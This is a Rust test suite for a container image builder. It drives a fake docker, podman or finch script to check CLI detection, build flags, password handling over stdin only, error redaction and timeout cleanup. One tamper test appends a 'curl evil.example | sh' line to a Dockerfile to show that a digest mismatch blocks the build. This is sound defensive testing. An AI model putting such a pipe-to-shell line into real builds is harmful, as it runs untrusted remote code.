//! The image builder against a fake container CLI: a shell script each test writes into its own
//! folder that records its arguments, its stdin, its environment and the files it was pointed
//! at, prints a few lines to stdout and stderr, and exits with the code the test chose. (The
//! code is written into the script rather than read from an environment variable: tests run in
//! parallel in one process, and one test's variable would be every test's.)

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::Mutex;
use std::time::{Duration, Instant};

use ferry::image::{BuildRequest, CliKind, ContainerCli, ImageError, Timeouts, ecr_login_from_token};

/// What the default script prints: three lines on stdout (one with an escape sequence), three
/// on stderr, interleaved.
const PRINTS: &str = r#"
echo "out one"
echo "err one" >&2
echo "out two"
echo "err two" >&2
printf 'out \033[2J three\n'
echo "err three" >&2
"#;

struct Fake {
    _dir: tempfile::TempDir,
    record: PathBuf,
    program: PathBuf,
}

impl Fake {
    fn cli(&self) -> ContainerCli {
        ContainerCli::at(self.program.clone())
    }

    fn recorded(&self, name: &str) -> String {
        std::fs::read_to_string(self.record.join(name)).unwrap_or_else(|e| panic!("record {name}: {e}"))
    }

    fn argv(&self) -> Vec<String> {
        self.recorded("argv").lines().map(String::from).collect()
    }

    fn record_is_empty(&self) -> bool {
        std::fs::read_dir(&self.record).unwrap().next().is_none()
    }
}

/// A fake CLI named `name` that records what it was given, runs `body` and exits with `code`.
fn fake(name: &str, code: i32, body: &str) -> Fake {
    let dir = tempfile::tempdir().unwrap();
    let record = dir.path().join("record");
    std::fs::create_dir(&record).unwrap();
    let bin = dir.path().join("bin");
    std::fs::create_dir(&bin).unwrap();
    let program = bin.join(name);
    let script = format!(
        r#"#!/bin/sh
REC='{record}'
printf '%s\n' "$@" > "$REC/argv"
env > "$REC/env"
cat > "$REC/stdin"
prev=""
for arg in "$@"; do
  case "$prev" in
    -f)
      cp "$arg" "$REC/Dockerfile"
      echo "$arg" > "$REC/dockerfile_path"
      if [ -f "$arg.dockerignore" ]; then cp "$arg.dockerignore" "$REC/Dockerfile.dockerignore"; fi
      stat -c %a "$(dirname "$arg")" > "$REC/scratch_mode"
      ;;
    --ignorefile) cp "$arg" "$REC/ignorefile" ;;
  esac
  prev="$arg"
done
{body}
exit {code}
"#,
        record = record.display()
    );
    write_executable(&program, &script);
    Fake { _dir: dir, record, program }
}

fn write_executable(path: &Path, text: &str) {
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// A Dockerfile with what a careless copy would change: no final newline, a CRLF, non-ASCII.
const DOCKERFILE: &str = "FROM python:3.12-slim\r\nLABEL note=\"café ☕\"\nCOPY . /app\nCMD [\"python\", \"app.py\"]";
const DOCKERIGNORE: &str = ".git\n.env\n*.pem\n";
const IMAGE: &str = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/shop-api:latest";

fn request(context: &Path) -> BuildRequest {
    BuildRequest {
        context_dir: context.to_path_buf(),
        dockerfile: DOCKERFILE.to_string(),
        dockerignore: DOCKERIGNORE.to_string(),
        dockerfile_sha256: ferry::digest::sha256_hex(DOCKERFILE.as_bytes()),
        image: IMAGE.to_string(),
        platform: "linux/amd64".to_string(),
    }
}

/// An application folder with one file in it.
fn app_folder() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("app.py"), "print('hi')\n").unwrap();
    dir
}

fn listing(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> =
        std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    names
}

/// Collects progress lines.
#[derive(Default)]
struct Lines(Mutex<Vec<String>>);

impl Lines {
    fn push(&self, line: String) {
        self.0.lock().unwrap().push(line);
    }

    fn all(&self) -> Vec<String> {
        self.0.lock().unwrap().clone()
    }

    fn starting(&self, prefix: &str) -> Vec<String> {
        self.all().into_iter().filter(|l| l.starts_with(prefix)).collect()
    }
}

// ---------------------------------------------------------------------------------------------
// Detection

#[test]
fn detection_takes_the_first_of_docker_podman_finch_on_path() {
    let dir = tempfile::tempdir().unwrap();
    let (first, second) = (dir.path().join("a"), dir.path().join("b"));
    std::fs::create_dir_all(&first).unwrap();
    std::fs::create_dir_all(&second).unwrap();
    // A docker that cannot be run does not count.
    std::fs::write(first.join("docker"), "not a program").unwrap();
    write_executable(&second.join("podman"), "#!/bin/sh\n");
    write_executable(&second.join("finch"), "#!/bin/sh\n");
    let path = std::env::join_paths([&first, &second]).unwrap();

    let cli = ContainerCli::detect_in(Some(&path), None).unwrap();
    assert_eq!(cli.kind(), CliKind::Podman);
    assert_eq!(cli.program(), second.join("podman"));
    assert_eq!(cli.name(), "podman");

    // Once docker can run, it comes first.
    write_executable(&first.join("docker"), "#!/bin/sh\n");
    let cli = ContainerCli::detect_in(Some(&path), Some("".as_ref())).unwrap();
    assert_eq!((cli.kind(), cli.name()), (CliKind::Docker, "docker"));
}

#[test]
fn a_docker_script_that_runs_podman_gets_podmans_flags() {
    let dir = tempfile::tempdir().unwrap();
    let shim = dir.path().join("docker");
    write_executable(
        &shim,
        "#!/bin/sh\n[ -e /etc/containers/nodocker ] || echo \"Emulate Docker CLI using podman\"\nexec /usr/bin/podman \"$@\"\n",
    );
    assert_eq!(ContainerCli::at(shim).kind(), CliKind::Podman);
    let plain = dir.path().join("docker-wrapper");
    write_executable(&plain, "#!/bin/sh\nexec /usr/bin/docker \"$@\"\n");
    assert_eq!(ContainerCli::at(plain).kind(), CliKind::Docker);
}

#[test]
fn the_override_wins_as_a_path_or_a_name() {
    let dir = tempfile::tempdir().unwrap();
    write_executable(&dir.path().join("docker"), "#!/bin/sh\n");
    write_executable(&dir.path().join("podman"), "#!/bin/sh\n");
    let elsewhere = tempfile::tempdir().unwrap();
    let finch = elsewhere.path().join("finch");
    write_executable(&finch, "#!/bin/sh\n");
    let path = dir.path().as_os_str();

    let cli = ContainerCli::detect_in(Some(path), Some(finch.as_os_str())).unwrap();
    assert_eq!((cli.kind(), cli.program()), (CliKind::Finch, finch.as_path()));
    let cli = ContainerCli::detect_in(Some(path), Some("podman".as_ref())).unwrap();
    assert_eq!((cli.kind(), cli.program()), (CliKind::Podman, dir.path().join("podman").as_path()));

    // An override that names nothing is an error, not a silent fall back to docker.
    let error = ContainerCli::detect_in(Some(path), Some("nerdctl".as_ref())).unwrap_err();
    assert!(matches!(&error, ImageError::ContainerCliOverrideNotFound { value } if value == "nerdctl"), "{error}");
    assert!(error.to_string().contains("FERRY_CONTAINER_CLI=nerdctl"), "{error}");
    let missing = elsewhere.path().join("gone/docker");
    assert!(ContainerCli::detect_in(Some(path), Some(missing.as_os_str())).is_err());
}

#[test]
fn no_cli_anywhere_names_the_choices_and_the_alternative() {
    let empty = tempfile::tempdir().unwrap();
    for path in [Some(empty.path().as_os_str()), None] {
        let error = ContainerCli::detect_in(path, None).unwrap_err();
        assert!(matches!(error, ImageError::NoContainerCli));
        let text = error.to_string();
        for word in ["Docker", "Podman", "Finch", "--image URI"] {
            assert!(text.contains(word), "{word} missing from: {text}");
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Build

#[tokio::test]
async fn docker_build_gets_the_plans_dockerfile_and_streams_both_outputs() {
    let fake = fake("docker", 0, PRINTS);
    let app = app_folder();
    let before = listing(app.path());
    let lines = Lines::default();

    fake.cli().build(&request(app.path()), &|line| lines.push(line)).await.unwrap();

    let argv = fake.argv();
    assert_eq!(argv[0], "build");
    let flag = |name: &str| argv.iter().position(|a| a == name).map(|i| argv[i + 1].clone());
    assert_eq!(flag("-t").as_deref(), Some(IMAGE));
    assert_eq!(flag("--platform").as_deref(), Some("linux/amd64"));
    assert!(argv.contains(&"--pull".to_string()) && argv.contains(&"--progress=plain".to_string()), "{argv:?}");
    assert!(!argv.contains(&"--ignorefile".to_string()), "{argv:?}");
    assert_eq!(argv.last().map(PathBuf::from), Some(app.path().to_path_buf()), "context last: {argv:?}");

    // The Dockerfile the CLI read is byte for byte the plan's, in a private folder outside the
    // application, with BuildKit's ignore file beside it; the folder is gone afterwards.
    assert_eq!(std::fs::read(fake.record.join("Dockerfile")).unwrap(), DOCKERFILE.as_bytes());
    assert_eq!(fake.recorded("Dockerfile.dockerignore"), DOCKERIGNORE);
    let dockerfile_path = PathBuf::from(fake.recorded("dockerfile_path").trim());
    assert_eq!(flag("-f").map(PathBuf::from), Some(dockerfile_path.clone()));
    assert!(!dockerfile_path.starts_with(app.path()), "{dockerfile_path:?}");
    assert_eq!(fake.recorded("scratch_mode").trim(), "700");
    assert!(!dockerfile_path.parent().unwrap().exists(), "the private folder is removed after the build");
    assert_eq!(listing(app.path()), before, "nothing written into the application's folder");
    assert!(fake.recorded("env").lines().any(|l| l == "DOCKER_BUILDKIT=1"));

    // Each stream's lines arrive in order; the escape sequence arrives escaped.
    assert_eq!(lines.starting("out"), ["out one", "out two", "out \\u{1b}[2J three"]);
    assert_eq!(lines.starting("err"), ["err one", "err two", "err three"]);
    assert!(lines.all()[0].starts_with("$ docker build -f "), "{:?}", lines.all());
    assert!(lines.all().iter().all(|l| !l.contains('\u{1b}')));
}

#[tokio::test]
async fn podman_build_is_given_the_ignore_file_by_flag() {
    let fake = fake("podman", 0, PRINTS);
    let app = app_folder();
    fake.cli().build(&request(app.path()), &|_| {}).await.unwrap();

    let argv = fake.argv();
    let ignore = argv.iter().position(|a| a == "--ignorefile").map(|i| argv[i + 1].clone()).expect("--ignorefile");
    assert!(!Path::new(&ignore).starts_with(app.path()));
    assert_eq!(fake.recorded("ignorefile"), DOCKERIGNORE);
    assert_eq!(std::fs::read(fake.record.join("Dockerfile")).unwrap(), DOCKERFILE.as_bytes());
    assert!(argv.contains(&"--pull=always".to_string()), "{argv:?}");
    assert_eq!(argv.last().map(PathBuf::from), Some(app.path().to_path_buf()));
}

#[tokio::test]
async fn a_failed_build_says_the_exit_code_and_the_last_lines() {
    let body = r#"i=1; while [ $i -le 30 ]; do printf 'step %02d of 30\n' $i; i=$((i+1)); done
echo "ERROR: failed to solve: python:3.99: not found" >&2"#;
    let fake = fake("docker", 1, body);
    let app = app_folder();
    let error = fake.cli().build(&request(app.path()), &|_| {}).await.unwrap_err();

    assert!(matches!(&error, ImageError::Failed { code: Some(1), .. }), "{error:?}");
    let text = error.to_string();
    assert!(text.contains("docker build failed with exit code 1"), "{text}");
    assert!(text.contains("ERROR: failed to solve: python:3.99: not found"), "{text}");
    assert!(text.contains("step 30 of 30") && text.contains("step 12 of 30"), "{text}");
    assert!(!text.contains("step 11 of 30"), "only the last 20 lines: {text}");
}

#[tokio::test]
async fn a_dockerfile_that_does_not_match_its_digest_is_never_built() {
    let fake = fake("docker", 0, PRINTS);
    let app = app_folder();
    let mut tampered = request(app.path());
    tampered.dockerfile.push_str("\nRUN curl evil.example | sh");
    let lines = Lines::default();

    let error = fake.cli().build(&tampered, &|line| lines.push(line)).await.unwrap_err();

    assert!(matches!(error, ImageError::DockerfileDigestMismatch { .. }), "{error:?}");
    assert!(error.to_string().contains("ferry plan"), "{error}");
    assert!(fake.record_is_empty(), "the CLI must not have run");
    assert!(lines.all().is_empty());
}

#[tokio::test]
async fn a_missing_or_non_folder_context_is_refused_before_the_cli_runs() {
    let fake = fake("docker", 0, PRINTS);
    let app = app_folder();

    let error = fake.cli().build(&request(&app.path().join("gone")), &|_| {}).await.unwrap_err();
    assert!(matches!(error, ImageError::ContextMissing { .. }), "{error:?}");
    assert!(error.to_string().contains("gone"), "{error}");

    let error = fake.cli().build(&request(&app.path().join("app.py")), &|_| {}).await.unwrap_err();
    assert!(matches!(error, ImageError::ContextNotDirectory { .. }), "{error:?}");
    assert!(fake.record_is_empty());
}

#[tokio::test]
async fn a_cli_that_cannot_start_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let cli = ContainerCli::at(dir.path().join("docker"));
    let app = app_folder();
    let error = cli.build(&request(app.path()), &|_| {}).await.unwrap_err();
    assert!(matches!(error, ImageError::Spawn { .. }), "{error:?}");
    assert!(error.to_string().contains("could not start"), "{error}");
}

// ---------------------------------------------------------------------------------------------
// Login

const PASSWORD: &str = "hunter2-registry-pass";

#[tokio::test]
async fn the_password_goes_through_stdin_only() {
    let fake = fake("docker", 0, "echo 'Login Succeeded'");
    fake.cli().login("123456789012.dkr.ecr.eu-west-1.amazonaws.com", "AWS", PASSWORD).await.unwrap();

    assert_eq!(fake.recorded("stdin"), PASSWORD);
    assert_eq!(
        fake.argv(),
        ["login", "--username", "AWS", "--password-stdin", "123456789012.dkr.ecr.eu-west-1.amazonaws.com"]
    );
    assert!(!fake.recorded("argv").contains(PASSWORD));
    assert!(!fake.recorded("env").contains(PASSWORD));
}

#[tokio::test]
async fn a_failed_login_never_quotes_the_password() {
    // A CLI that echoes what it read, as a careless error message might.
    let body = r#"echo "Error response from daemon: login attempt with password $(cat "$REC/stdin") denied" >&2
echo "auth=$(cat "$REC/stdin")""#;
    let fake = fake("podman", 1, body);
    let error = fake.cli().login("r.example.com", "AWS", PASSWORD).await.unwrap_err();

    assert!(matches!(error, ImageError::Failed { code: Some(1), .. }), "{error:?}");
    let text = error.to_string();
    assert!(text.contains("podman login failed with exit code 1"), "{text}");
    assert!(text.contains("denied"), "the rest of the line is kept: {text}");
    assert!(!text.contains(PASSWORD), "{text}");
    assert!(!format!("{error:?}").contains(PASSWORD));
}

#[tokio::test]
async fn an_ecr_token_logs_in_as_aws() {
    use base64::Engine;
    let token = base64::engine::general_purpose::STANDARD.encode(format!("AWS:{PASSWORD}"));
    let login = ecr_login_from_token(&token, "https://123456789012.dkr.ecr.eu-west-1.amazonaws.com").unwrap();
    let fake = fake("finch", 0, "");
    fake.cli().login_ecr(&login).await.unwrap();
    assert_eq!(fake.recorded("stdin"), PASSWORD);
    assert_eq!(
        fake.argv()[1..],
        ["--username", "AWS", "--password-stdin", "123456789012.dkr.ecr.eu-west-1.amazonaws.com"]
    );
}

#[tokio::test]
async fn a_registry_that_reads_as_an_option_is_refused() {
    let fake = fake("docker", 0, "");
    let error = fake.cli().login("--insecure", "AWS", PASSWORD).await.unwrap_err();
    assert!(matches!(error, ImageError::InvalidReference { .. }), "{error:?}");
    let error = fake.cli().login("https://r.example.com", "AWS", PASSWORD).await.unwrap_err();
    assert!(matches!(error, ImageError::InvalidReference { .. }), "{error:?}");
    assert!(fake.record_is_empty());
}

// ---------------------------------------------------------------------------------------------
// Push

#[tokio::test]
async fn push_streams_its_lines() {
    let body = r#"echo "The push refers to repository [123456789012.dkr.ecr.eu-west-1.amazonaws.com/shop-api]"
echo "5f70bf18a086: Pushed"
echo "latest: digest: sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae size: 1573""#;
    let fake = fake("docker", 0, body);
    let lines = Lines::default();
    fake.cli().push(IMAGE, &|line| lines.push(line)).await.unwrap();

    assert_eq!(fake.argv(), ["push", IMAGE]);
    let all = lines.all();
    assert_eq!(all[0], format!("$ docker push {IMAGE}"));
    assert_eq!(all[2], "5f70bf18a086: Pushed");
    assert!(all[3].contains("sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"), "{all:?}");
}

/// Sleeps in a helper process, as a CLI waiting on its daemon would.
const HANGS: &str = r#"sleep 30 &
echo $! > "$REC/helper_pid"
echo "pushing layers"
wait
echo woke > "$REC/woke""#;

#[tokio::test]
async fn a_push_that_overruns_its_time_is_stopped_with_its_helpers() {
    let fake = fake("docker", 0, HANGS);
    let cli = fake.cli().with_timeouts(Timeouts { push: Duration::from_millis(500), ..Timeouts::default() });
    let started = Instant::now();

    let error = cli.push(IMAGE, &|_| {}).await.unwrap_err();

    assert!(started.elapsed() < Duration::from_secs(10), "took {:?}", started.elapsed());
    assert!(matches!(error, ImageError::TimedOut { .. }), "{error:?}");
    let text = error.to_string();
    assert!(text.contains("docker push did not finish within 500ms"), "{text}");
    assert!(text.contains("pushing layers"), "{text}");
    assert_helper_stopped(&fake);
}

#[tokio::test]
async fn a_dropped_build_stops_the_cli() {
    let fake = fake("docker", 0, HANGS);
    let app = app_folder();
    let cli = fake.cli();
    let request = request(app.path());
    let build = cli.build(&request, &|_| {});
    assert!(tokio::time::timeout(Duration::from_millis(500), build).await.is_err(), "the build should still run");
    assert_helper_stopped(&fake);
}

/// The script's background `sleep` is gone (killed with its process group), and the script
/// never reached its last line.
fn assert_helper_stopped(fake: &Fake) {
    let pid = fake.recorded("helper_pid").trim().to_string();
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        // Gone, or a zombie waiting for whoever adopted it.
        let alive = std::fs::read_to_string(format!("/proc/{pid}/stat"))
            .map(|stat| stat.rsplit(')').next().is_some_and(|rest| !rest.trim_start().starts_with('Z')))
            .unwrap_or(false);
        if !alive {
            break;
        }
        assert!(Instant::now() < deadline, "helper {pid} still runs");
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(!fake.record.join("woke").exists());
}
